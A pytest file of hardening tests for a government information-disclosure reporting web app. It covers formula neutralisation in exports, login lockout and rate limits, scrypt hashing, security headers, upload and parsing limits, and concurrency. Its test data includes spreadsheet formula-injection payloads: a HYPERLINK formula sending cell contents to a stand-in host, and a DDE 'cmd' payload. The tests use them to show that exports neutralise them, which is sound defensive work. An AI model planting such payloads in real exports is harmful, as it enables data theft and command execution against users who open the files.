"""What a hostile request, a careless upload or a new user broke (issue 14), each fixed."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from conftest import SHARED
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select

from xxgk.record import Record
from xxgk.register import service
from xxgk.register.ledger import rows_of, write
from xxgk.render import render
from xxgk.store.ingest import ingest, local_engine
from xxgk.store.models import Report
from xxgk.tabular import neutral, write_csv, write_xlsx
from xxgk.web.app import create_app

pytestmark = pytest.mark.shared

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]


def test_text_never_runs_as_a_formula_in_csv_or_xlsx(tmp_path):
    assert [neutral(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [neutral(v) for v in ("-3", "+12", "-", "正文", 5, None)] == ["-3", "+12", "'-", "正文", 5, None]
    write_csv(tmp_path / "t.csv", ["机关"], [[f] for f in FORMULAS])
    cells = [r[0] for r in csv.reader(io.StringIO((tmp_path / "t.csv").read_text(encoding="utf-8-sig")))][1:]
    assert all(c.startswith("'") for c in cells)
    write_xlsx(tmp_path / "t.xlsx", [("表", ["机关"], [[f] for f in FORMULAS])])
    ws = load_workbook(tmp_path / "t.xlsx")["表"]
    assert [(c.value, c.data_type) for (c,) in ws.iter_rows(min_row=2)] == [(f, "s") for f in FORMULAS]


def test_a_workbook_from_an_uploaded_report_keeps_its_text_as_text():
    rec = Record(body=FORMULAS[0], year=2024, format="2021", sections={"overview": "=1+1"})
    wb = load_workbook(io.BytesIO(render(rec, "xlsx")))
    info = wb.worksheets[0]
    assert (info["B3"].value, info["B3"].data_type) == (FORMULAS[0], "s")
    assert info["A1"].data_type == "f"  # the workbook's own title formula stays one
    text = next(ws for ws in wb.worksheets if ws["B1"].value and "正文" in str(ws["B1"].value))
    assert [(r[1].value, r[1].data_type) for r in text.iter_rows(min_row=2, max_row=2)] == [("=1+1", "s")]


def test_the_registers_export_neutralises_an_applicants_fields(sessions, tmp_path):
    with sessions() as s:
        body = service.add_body(s, "示例市教育局")
        app = service.receive(
            s,
            body,
            date(2025, 9, 30),
            "natural_person",
            "counter",
            applicant_name="=cmd()",
            applicant_contact="@13800138000",
            content="+学区划分",
        )
        headers, rows = rows_of([service.view(s, app.id)], personal=True)
    write(tmp_path / "台账.csv", headers, rows)
    text = (tmp_path / "台账.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd()" in text and "'@13800138000" in text and "'+学区划分" in text
    assert ",=cmd()" not in text


def test_the_public_cell_export_neutralises_a_body_name(sessions, tmp_path):
    report = (
        '=HYPERLINK("http://x")局2023年政府信息公开工作年度报告\n一、总体情况\n无。\n'
        "四、政府信息公开行政复议、行政诉讼情况\n行政复议 行政诉讼\n结果维持 结果纠正 其他结果 尚未审结 总计 "
        "未经复议直接起诉 复议后起诉\n" + "0 " * 15 + "\n五、存在的主要问题及改进情况\n无。\n"
    )
    (tmp_path / "r.txt").write_text(report, encoding="utf-8")
    with sessions() as s:
        ingest(s, [tmp_path], local_engine(1))
        assert s.scalars(select(Report.body_name)).one().startswith("=HYPERLINK")
    with TestClient(create_app(sessions)) as client:
        body = client.get("/reports/export.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in body and ",=HYPERLINK" not in body


def test_public_pages_and_exports_name_the_file_never_the_servers_folders(sessions, tmp_path):
    folder = tmp_path / "srv" / "秘密目录"
    folder.mkdir(parents=True)
    (folder / "洪泽区.pdf").write_bytes((SHARED / "corpus" / "hongze-2024.pdf").read_bytes())
    with sessions() as s:
        ingest(s, [folder], local_engine(1))
        rid = s.scalars(select(Report.id)).one()
    with TestClient(create_app(sessions)) as client:
        pages = [
            client.get("/reports").text,
            client.get(f"/reports/{rid}").text,
            client.get("/reports/export.csv").content.decode("utf-8-sig"),
            client.get(f"/reports/{rid}/download/json").text,
        ]
    for text in pages:
        assert "洪泽区.pdf" in text and "秘密目录" not in text and str(tmp_path) not in text


def _logged_in(sessions) -> TestClient:
    import re

    from xxgk.store.accounts import add_user

    with sessions() as s:
        add_user(s, "root", "pw-hardening-1", "admin", name="管理员")
    client = TestClient(create_app(sessions))
    page = client.get("/login").text
    form = page[page.index('action="/login"') :]
    client.post(
        "/login",
        data={
            "username": "root",
            "password": "pw-hardening-1",
            "csrf": re.search(r'name="csrf" value="([^"]+)"', form).group(1),
        },
    )
    return client


def _broken_package(part: str) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr(part, "<root><broken")
    return out.getvalue()


def test_odd_requests_get_a_clear_4xx_never_a_500(sessions):
    import re

    with _logged_in(sessions) as client:
        for url, params in (
            ("/dashboard", {"min_count": 0}),
            ("/dashboard", {"min_count": -5}),
            ("/reports/99999999999999999999999", {}),
            ("/bodies/99999999999999999999", {}),
            ("/register/99999999999999999999", {}),
            ("/api/applications/99999999999999999999", {}),
        ):
            r = client.get(url, params=params)
            assert r.status_code == 422, (url, r.status_code)
            if not url.startswith("/api"):
                assert "无效" in r.text and "Traceback" not in r.text
        assert client.get("/dashboard", params={"year": "99999999999999999999"}).status_code == 200  # no filter
        csrf = re.search(r'name="csrf" value="([^"]+)"', client.get("/check").text).group(1)
        for name, data in (
            ("a" * 300 + ".txt", "某某局2023年政府信息公开工作年度报告\n".encode()),
            ("r.docx", _broken_package("word/document.xml")),
            ("r.xlsx", _broken_package("xl/workbook.xml")),
        ):
            r = client.post("/check", data={"csrf": csrf}, files=[("files", (name, data, "application/octet-stream"))])
            assert r.status_code < 500, name
        r = client.post(
            "/check",
            data={"csrf": csrf},
            files=[("files", ("r.docx", _broken_package("word/document.xml"), "application/octet-stream"))],
        )
        assert "Word 文件已损坏" in r.text


def test_make_demo_sets_up_the_debian_packages_too_and_waits_for_the_dpkg_lock():
    import subprocess

    from conftest import ROOT

    dry = subprocess.run(["make", "-n", "demo"], cwd=ROOT, capture_output=True, text=True).stdout
    assert "scripts/system-deps.sh" in dry  # PDF output needs LibreOffice and the fonts
    script = (ROOT / "scripts" / "system-deps.sh").read_text()
    assert script.count("DPkg::Lock::Timeout") == 1
    assert '"${LOCK[@]}" update' in script and '"${LOCK[@]}" install' in script


def test_passwords_are_hashed_at_scrypt_n_2_17_and_older_hashes_rehashed_at_login(sessions):
    import base64
    import hashlib

    from xxgk.store.accounts import add_user, authenticate
    from xxgk.store.models import User

    with sessions() as s:
        u = add_user(s, "new", "pw-strong-enough", "admin")
        assert u.password_hash.split("$")[1:4] == ["131072", "8", "1"]
        old = add_user(s, "old", "pw-strong-enough", "admin")
        salt = b"0123456789abcdef"
        weak = hashlib.scrypt(b"pw-strong-enough", salt=salt, n=2**14, r=8, p=1)
        old.password_hash = f"scrypt$16384$8$1${base64.b64encode(salt).decode()}${base64.b64encode(weak).decode()}"
        s.commit()
        assert authenticate(s, "old", "pw-strong-enough") is not None
        assert s.get(User, old.id).password_hash.split("$")[1] == "131072"
        assert authenticate(s, "old", "pw-strong-enough") is not None  # the new hash verifies


def test_headers_and_an_api_logout_that_revokes_the_token(sessions):
    from xxgk.store.accounts import add_user

    with sessions() as s:
        add_user(s, "root", "pw-hardening-1", "admin")
    with TestClient(create_app(sessions)) as client:
        public = client.get("/dashboard")
        assert "frame-ancestors 'none'" in public.headers["content-security-policy"]
        assert "script-src 'self';" in public.headers["content-security-policy"]
        assert public.headers["x-frame-options"] == "DENY" and public.headers["x-content-type-options"] == "nosniff"
        assert "no-store" not in public.headers.get("cache-control", "")
        token = client.post("/api/login", json={"username": "root", "password": "pw-hardening-1"}).json()["token"]
        auth = {"Authorization": f"Bearer {token}"}
        listing = client.get("/api/applications", headers=auth)
        assert listing.status_code == 200 and listing.headers["cache-control"] == "no-store"
        assert client.post("/api/logout", headers=auth).status_code == 200
        assert client.get("/api/applications", headers=auth).status_code == 401  # the token is gone


def test_a_burst_of_wrong_passwords_is_tried_only_up_to_the_lockout(sessions):
    """Sixty guesses at once: five are tried, the rest refused as locked (the lockout was a
    read-then-write race that let every one of them be tried)."""
    from concurrent.futures import ThreadPoolExecutor

    from xxgk.store.accounts import MAX_FAILURES, LoginLocked, add_user, authenticate

    with sessions() as s:
        add_user(s, "target", "pw-the-right-one", "admin")

    def guess(k: int) -> str:
        with sessions() as s:
            try:
                return "tried" if authenticate(s, "target", f"wrong-{k}") is None else "in"
            except LoginLocked:
                return "locked"

    with ThreadPoolExecutor(12) as pool:
        results = list(pool.map(guess, range(60)))
    assert results.count("tried") == MAX_FAILURES and results.count("locked") == 60 - MAX_FAILURES
    with sessions() as s:
        try:
            authenticate(s, "target", "pw-the-right-one")
            raise AssertionError("the right password got in during the lock")
        except LoginLocked:
            pass


def test_failed_logins_are_limited_per_address_and_overall(sessions):
    from xxgk.web.limits import PER_ADDRESS, Attempts

    with sessions() as s:
        from xxgk.store.accounts import add_user

        for k in range(3):
            add_user(s, f"user{k}", "pw-the-right-one", "admin")
    with TestClient(create_app(sessions)) as client:
        codes = [
            client.post("/api/login", json={"username": f"user{k % 3}", "password": "wrong-one"}).status_code
            for k in range(PER_ADDRESS + 2)
        ]  # spread over accounts: no account locks
        assert codes[:PER_ADDRESS] == [401] * PER_ADDRESS and codes[PER_ADDRESS:] == [429, 429]
        r = client.post("/api/login", json={"username": "user0", "password": "pw-the-right-one"})
        assert r.status_code == 429 and "一分钟后" in r.json()["detail"]
    limits = Attempts(per_address=10, overall=25, window=60)
    for k in range(25):
        limits.add(f"10.0.0.{k}", now=100.0)
    assert not limits.allowed("10.0.0.99", now=101.0)  # a crowd of addresses: everyone waits
    assert limits.allowed("10.0.0.99", now=161.0)  # until the window has passed


def test_a_database_error_never_carries_an_applicants_data_into_the_log(sessions, caplog):
    """A save that fails in the database (here: a contact longer than the column on
    PostgreSQL, a duplicate number on both) logs the statement, never its values."""
    import logging

    from sqlalchemy.exc import DBAPIError

    from xxgk.store.models import Application

    with sessions() as s:
        body = service.add_body(s, "示例市教育局")
        app = service.receive(
            s,
            body,
            date(2025, 9, 30),
            "natural_person",
            "counter",
            applicant_name="张三丰",
            applicant_contact="13800138000",
            content="学区划分",
        )
        twin = Application(**{c.key: getattr(app, c.key) for c in Application.__table__.columns if c.key != "id"})
        twin.applicant_contact = "13800138000" + "0" * 500
        s.add(twin)
        with caplog.at_level(logging.DEBUG):
            try:
                s.commit()
                raise AssertionError("the duplicate was stored")
            except DBAPIError as e:
                logging.getLogger("xxgk").exception("保存失败：%s", e)
                message = str(e)
    assert "13800138000" not in message and "张三丰" not in message
    assert "13800138000" not in caplog.text and "张三丰" not in caplog.text


def test_an_honestly_inflating_docx_part_and_too_many_files_are_refused_before_parsing(sessions):
    """An 8 MB DOCX whose document.xml inflates to ~300 MB passed the zip checks and cost
    minutes and gigabytes; 999 files per request were each read before refusing."""
    import random
    import re
    import string
    import zipfile

    from xxgk.errors import ReadError
    from xxgk.pipeline import parse_bytes

    words = "".join(random.Random(1).choices(string.ascii_letters, k=26 * 1024 * 1024))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", f"<w:document><w:t>{words}</w:t></w:document>")
    data = out.getvalue()
    assert 200 * len(data) > 26 * 1024 * 1024  # inflates honestly: no zip bomb by its ratio
    try:
        parse_bytes(data, "报告.docx")
        raise AssertionError("read")
    except ReadError as e:
        assert "word/document.xml" in str(e) and "远超任何年度报告" in str(e)
    with _logged_in(sessions) as client:
        csrf = re.search(r'name="csrf" value="([^"]+)"', client.get("/check").text).group(1)
        files = [("files", (f"r{k}.txt", b"x\n", "text/plain")) for k in range(21)]
        r = client.post("/check", data={"csrf": csrf}, files=files)
        assert r.status_code == 413 and "一次最多上传 20 个文件" in r.text


# ------------------------------------------------------------------ many users at once
def _small_site(db_url: str, connections: int):
    """The application on a pool of `connections`, an officer and an admin, a body with applications."""
    from sqlalchemy.orm import sessionmaker

    from xxgk.store.accounts import add_user
    from xxgk.store.db import make_engine, upgrade

    engine = make_engine(db_url, pool_size=connections, max_overflow=0, pool_timeout=10)
    upgrade(engine)
    sessions = sessionmaker(engine, expire_on_commit=False)
    with sessions() as s:
        body = service.add_body(s, "示例市教育局")
        for k in range(3):
            service.receive(s, body, date(2025, 9, 1 + k), "natural_person", "seed", applicant_name="张三")
        add_user(s, "edu", "password-123", "officer", body=body)
        add_user(s, "root", "password-123", "admin")
    return sessions


def _token(client: TestClient, user: str) -> dict[str, str]:
    r = client.post("/api/login", json={"username": user, "password": "password-123"})
    return {"Authorization": f"Bearer {r.json()['token']}"}


def test_more_users_than_threads_and_connections_never_deadlock(db_url):
    """At 50 users the pages stalled 30 s, then 500 `QueuePool limit`: a dependency held a
    connection while its endpoint waited for a worker thread. Here 3 threads and 2
    connections serve 48 requests at once, pages and API, logged in: every one answered."""
    from concurrent.futures import ThreadPoolExecutor

    import anyio.to_thread

    sessions = _small_site(db_url, 2)
    with TestClient(create_app(sessions)) as client:
        officer, admin = _token(client, "edu"), _token(client, "root")

        def few_threads() -> None:
            anyio.to_thread.current_default_thread_limiter().total_tokens = 3

        client.portal.call(few_threads)
        asks = [
            ("/register", officer),
            ("/dashboard", admin),
            ("/api/applications", officer),
            ("/admin", admin),
            ("/register/1", officer),
            ("/api/applications/1", officer),
            ("/", officer),
            ("/api/calendar", admin),
        ]
        with ThreadPoolExecutor(48) as pool:
            answers = list(
                pool.map(lambda k: client.get(asks[k % len(asks)][0], headers=asks[k % len(asks)][1]), range(48))
            )
    assert [a.status_code for a in answers] == [200] * 48
    sessions.kw["bind"].dispose()


def test_a_write_waiting_for_the_sqlite_lock_holds_up_no_one(tmp_path):
    """A SQLite writer lock blocked /api/health for 7 s: the waiting write ran on the event
    loop. A write waiting for the lock now waits in its worker thread while health and
    pages answer."""
    import sqlite3
    import threading

    url = f"sqlite:///{tmp_path / 'x.sqlite'}"
    sessions = _small_site(url, 5)
    with TestClient(create_app(sessions)) as client:
        officer = _token(client, "edu")
        other = sqlite3.connect(tmp_path / "x.sqlite", isolation_level=None)
        other.execute("BEGIN IMMEDIATE")  # another process holds the writer lock
        done: dict[str, int] = {}
        writer = threading.Thread(
            target=lambda: done.setdefault(
                "write",
                client.post(
                    "/api/applications", headers=officer, json={"body_id": 1, "received": "2025-10-09"}
                ).status_code,
            )
        )
        writer.start()
        writer.join(1)  # the write is waiting for the lock
        reader = threading.Thread(target=lambda: done.setdefault("health", client.get("/api/health").status_code))
        reader.start()
        reader.join(10)
        waiting = writer.is_alive()
        other.execute("COMMIT")
        writer.join(40)
    assert done.get("health") == 200 and waiting, "health answered while the write still waited for the lock"
    assert done["write"] == 201
    sessions.kw["bind"].dispose()


# ------------------------------------------------------------------ reading under limits
def _long_text(tmp_path) -> bytes:
    """14 MB of lines like a table's: a legitimate file that takes a reader seconds (three
    here) and hundreds of MB."""
    data = ("收到和处理政府信息公开申请情况 本年新收 1 2 3 4 5 6 7\n" * 200000).encode()
    (tmp_path / "long.txt").write_bytes(data)
    return data


def test_a_file_past_its_time_or_memory_is_stopped_and_said_so(tmp_path):
    import pytest

    from xxgk.errors import ReadError
    from xxgk.pipeline import parse_bytes
    from xxgk.sandbox import UPLOAD, Limits, parse_limited

    data = _long_text(tmp_path)
    with pytest.raises(ReadError, match=r"^long.txt：读取超过 0.3 秒仍未完成"):
        parse_limited(data, "long.txt", Limits(0.3, 2 << 30))
    # Past its memory: the command line and the upload tests below (a child forked from this
    # test process would reuse the memory this process freed, which no cap can see).
    real = SHARED / "corpus" / "hongze-2024.pdf"
    within = parse_limited(real.read_bytes(), str(real), UPLOAD)
    assert within.to_json() == parse_bytes(real.read_bytes(), str(real)).to_json()


def test_a_reading_child_reads_file_after_file_and_a_spent_one_is_replaced(tmp_path):
    """One child reads a batch (its libraries loaded once); a file past its time costs
    that child, and the next file is read by a fresh one. (Past its memory: the command
    line test of a batch, in a process of its own — see above.)"""
    import os

    import pytest

    from xxgk.errors import ReadError
    from xxgk.pipeline import parse_bytes
    from xxgk.sandbox import Limits, Reader

    data = _long_text(tmp_path)
    seed = next((SHARED / "seeds").glob("*.txt"))
    text = seed.read_bytes()
    # Only the long file gets the short time: a busy CI machine may take a while for the rest.
    ample, short = Limits(120, 2 << 30), Limits(0.3, 2 << 30)
    with Reader(ample) as reader:
        first = reader(os.getpid, (), "a")
        assert reader(os.getpid, (), "b") == first != os.getpid()
        assert reader.parse(text, seed.name).to_json() == parse_bytes(text, seed.name).to_json()
        reader.limits = short
        with pytest.raises(ReadError, match="long.txt：读取超过 0.3 秒仍未完成"):
            reader.parse(data, "long.txt")
        reader.limits = ample
        assert reader(os.getpid, (), "c") not in (first, os.getpid())
        assert reader.parse(text, seed.name).body


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_time_limit_swallowed_by_a_collector_callback_rings_again():
    """A reading process forked from one that runs a library's garbage-collector callback
    (Hypothesis installs one) may take the alarm inside it, where the exception is
    swallowed: the alarm rings again, and the file is stopped all the same."""
    import gc
    import time

    from xxgk.errors import ReadTimeout
    from xxgk.sandbox import alarm

    slept: list[bool] = []

    def slow_callback(phase: str, info: dict) -> None:
        if phase == "start" and not slept:
            slept.append(True)
            time.sleep(0.3)  # the alarm rings in here

    gc.callbacks.append(slow_callback)
    try:
        alarm(0.1)
        start = time.monotonic()
        with pytest.raises(ReadTimeout):
            gc.collect(0)  # the youngest only: a full collection of the suite's heap takes its own time
            while time.monotonic() - start < 3:
                sum(range(1000))
        assert time.monotonic() - start < 1
    finally:
        alarm(0)
        gc.callbacks.remove(slow_callback)


def test_a_reading_child_dies_with_its_parent(tmp_path):
    """A reader forked by an ingest holds its database connection: killed mid-file, the
    ingest must take its readers with it, not leave one reading (and the connection open)."""
    import signal
    import subprocess
    import sys
    import time

    _long_text(tmp_path)  # seconds of reading
    script = (
        "import sys\nfrom pathlib import Path\nfrom xxgk.sandbox import Limits, Reader\n"
        "r = Reader(Limits(60, 2 << 30)); r.start(); print(r.child.pid, flush=True)\n"
        "r.parse(Path(sys.argv[1]).read_bytes(), 'long.txt')\n"
    )
    p = subprocess.Popen([sys.executable, "-c", script, str(tmp_path / "long.txt")], stdout=subprocess.PIPE, text=True)
    assert p.stdout is not None
    child = int(p.stdout.readline())
    time.sleep(0.3)  # reading by now
    p.send_signal(signal.SIGKILL)
    p.wait()
    deadline = time.monotonic() + 2  # the long file takes seconds more
    while time.monotonic() < deadline and _running(child):
        time.sleep(0.05)
    assert not _running(child)


def _running(pid: int) -> bool:
    """Alive and not a zombie (one left for whoever reaps it)."""
    try:
        with open(f"/proc/{pid}/status") as f:
            return "\nState:\tZ" not in f.read()
    except FileNotFoundError:
        return False


def test_parse_and_ingest_keep_the_same_limits(xxgk, tmp_path):
    from xxgk.sandbox import Limits
    from xxgk.store.ingest import local_engine

    _long_text(tmp_path)
    seed = next((SHARED / "seeds").glob("*.txt"))
    # a process of its own: its children are forked from a small parent (see above)
    r = xxgk("parse", tmp_path / "long.txt", seed, "--json", env={"XXGK_READ_MB": "64"}, process=True, timeout=120)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert "long.txt：读取所需内存超过上限（64 MB）" in r.stderr
    assert r.stdout.count('"schema"') == 1  # the other file was read as ever
    jobs = [(str(tmp_path / "long.txt"), "a", 1), (str(seed), "b", 1)]
    for workers in (0, 2):  # one child per file, or a pool of reading processes
        # a second: a fraction of the long file's time, and many times what the seed takes
        out = {o.path: o for o in local_engine(workers, Limits(1, 2 << 30))(jobs)}
        assert out[jobs[0][0]].status == "unreadable" and "读取超过 1 秒" in out[jobs[0][0]].reason
        assert out[jobs[1][0]].status in ("good", "defective")


def test_an_upload_past_its_limits_is_refused_and_the_server_goes_on(sessions, tmp_path, monkeypatch):
    import xxgk.sandbox

    monkeypatch.setattr(xxgk.sandbox, "UPLOAD", xxgk.sandbox.Limits(60, 64 << 20))
    data = _long_text(tmp_path)
    with TestClient(create_app(sessions)) as client:
        with sessions() as s:
            from xxgk.store.accounts import add_user

            add_user(s, "sup", "password-123", "supervisor", region="示例市")
        headers = _token(client, "sup")
        page = client.get("/check", headers=headers).text
        csrf = page.split('name="csrf" value="')[1].split('"')[0]
        seed = next((SHARED / "seeds").glob("*.txt"))
        r = client.post(
            "/check",
            headers=headers,
            data={"csrf": csrf},
            files=[("files", ("long.txt", data)), ("files", (seed.name, seed.read_bytes()))],
        )
        assert r.status_code == 200 and "long.txt：读取所需内存超过上限（64 MB）" in r.text
        assert client.get("/api/health").json() == {"ok": True}
